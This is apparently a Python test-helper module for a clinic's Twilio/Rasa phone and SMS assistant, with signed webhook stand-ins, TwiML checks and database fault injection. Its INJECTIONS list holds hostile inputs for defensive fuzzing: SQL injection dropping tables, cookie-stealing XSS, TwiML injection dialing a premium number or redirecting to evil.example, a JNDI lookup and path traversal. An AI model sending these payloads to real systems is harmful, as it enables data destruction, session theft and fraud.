"""The reliability suite's helpers: a Twilio stand-in, a scripted Rasa, TwiML, Rasa servers."""

from __future__ import annotations

import json
import os
import socket
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

from flask.testing import FlaskClient
from hypothesis import strategies as st
from sqlalchemy import create_engine, func, select, text
from twilio.request_validator import RequestValidator

from assistant import stack
from assistant.config import PROJECT_ROOT, Settings
from assistant.db.models import (
    Base,
)
from assistant.rasa_model import ensure_model
from assistant.unit_of_work import UnitOfWork
from tests import factories
from tests.factories.databases import PG_ADMIN_URL
from tests.factories.webhooks import AUTH_TOKEN, PUBLIC_BASE_URL

# Examples per property (hypothesis); RELIABILITY_EXAMPLES=300 for a deeper run.
EXAMPLES = int(os.environ.get("RELIABILITY_EXAMPLES", "30"))


CALL_SID = "CA" + "7" * 32


PATIENT_PHONE = "+15555550123"


PRACTICE_PHONE = "+15555550100"


class Twilio:
    """Twilio's side of the conversation: POSTs signed for our public URL."""

    def __init__(self, client: FlaskClient, token: str = AUTH_TOKEN) -> None:
        self.client, self.token = client, token

    def signature(self, path: str, params: dict[str, str]) -> str:
        return RequestValidator(self.token).compute_signature(PUBLIC_BASE_URL + path, params)

    def post(self, path: str, params: dict[str, str], **kwargs: Any):
        headers = {"X-Twilio-Signature": self.signature(path, params)}
        return self.client.post(path, data=params, headers=headers, **kwargs)


class ScriptedRasa:
    """The Rasa REST channel at the HTTP level. Every turn is answered by `answer(message)`
    (default: a plain reply); `before_answer` runs while the app waits (to inject faults)."""

    def __init__(self) -> None:
        self.received: list[dict] = []
        self.answer: Callable[[dict], list[dict]] = lambda _m: [
            {"recipient_id": "x", "text": "How can I help?"}
        ]
        self.before_answer: Callable[[dict], None] | None = None
        self.url = ""

    def wsgi(self, environ, start_response):
        length = int(environ.get("CONTENT_LENGTH") or 0)
        message = json.loads(environ["wsgi.input"].read(length) or b"{}")
        self.received.append(message)
        if self.before_answer is not None:
            self.before_answer(message)
        body = json.dumps(self.answer(message)).encode()
        start_response("200 OK", [("Content-Type", "application/json")])
        return [body]


def seed_practice(url: str) -> None:
    with UnitOfWork(url) as uow:
        factories.patient(uow.session, factories.practice(uow.session))
        uow.commit()


def row_counts(url: str) -> dict[str, int]:
    """Rows per table: "nothing stored" means these do not change."""
    with UnitOfWork(url) as uow:
        return {
            table.name: uow.session.execute(select(func.count()).select_from(table)).scalar_one()
            for table in Base.metadata.sorted_tables
        }


def voice_twiml(response) -> ET.Element:
    """The caller's TwiML: 200, well-formed, and never dead air (something is said, the call is
    connected to a person, or it is ended on purpose)."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/xml"
    root = ET.fromstring(response.get_data())
    assert root.tag == "Response"
    spoken = [s for s in root.iter("Say") if (s.text or "").strip()]
    ends = root.find("Dial") is not None or root.find("Hangup") is not None
    assert spoken or ends, response.get_data(as_text=True)
    return root


def sms_twiml(response) -> ET.Element:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/xml"
    root = ET.fromstring(response.get_data())
    assert root.tag == "Response"
    return root


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def rasa_servers(
    settings: Settings, log_dir: Path, *, action_server_url: str | None = None
) -> Iterator[dict[str, stack.Service]]:
    """The action server and one Rasa server per RASA_URL, started and ready, stopped after.
    `action_server_url`: where the action server listens when the Rasa servers are to reach it
    through something else (settings.action_server_url)."""
    model = ensure_model(PROJECT_ROOT / "var")
    actions_at = replace(
        settings, action_server_url=action_server_url or settings.action_server_url
    )
    services = [s for s in stack.services(actions_at, model, app_port=0) if s.name == "actions"]
    services += [
        s for s in stack.services(settings, model, app_port=0) if s.name.startswith("rasa")
    ]
    stack.start(services, stack.child_env(actions_at), log_dir)
    try:
        stack.wait_ready(f"{actions_at.action_server_url}/health", services, 120)
        for url in settings.rasa_urls:
            stack.wait_ready(f"{url}/status", services, 150)
        yield {s.name: s for s in services}
    finally:
        stack.stop(services)


def admin_sql(sql: str) -> None:
    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT", future=True)
    with admin.connect() as conn:
        conn.execute(text(sql))
    admin.dispose()


def block_database(url: str) -> None:
    """Refuse new connections to this database and cut the open ones (a restart, seen from
    the app), without touching any other database on the server."""
    name = url.rsplit("/", 1)[1]
    admin_sql(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS false')
    admin_sql(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
        f" WHERE datname = '{name}' AND pid <> pg_backend_pid()"
    )


def unblock_database(url: str) -> None:
    admin_sql(f'ALTER DATABASE "{url.rsplit("/", 1)[1]}" ALLOW_CONNECTIONS true')


INJECTIONS = [
    "'; DROP TABLE patients; --",
    "Robert'); DROP TABLE conversations;--",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]></Say><Dial>+19005550000</Dial><Say><![CDATA[",
    "</Message><Redirect>https://evil.example/</Redirect><Message>",
    "&amp; &lt; &#0; &#xD800;",
    "{{7*7}} ${7*7} %s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "\u202eevil\u202c",
    "Jos\u00e9 \u00d1u\u00f1ez \U0001f600",
    "../../etc/passwd",
    "/request_human",
    '/inform{"patient_id": 1}',
]


# Text Twilio could carry (no NUL: it never sends one, and PostgreSQL text refuses it; see the
# separate NUL test below).
text_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
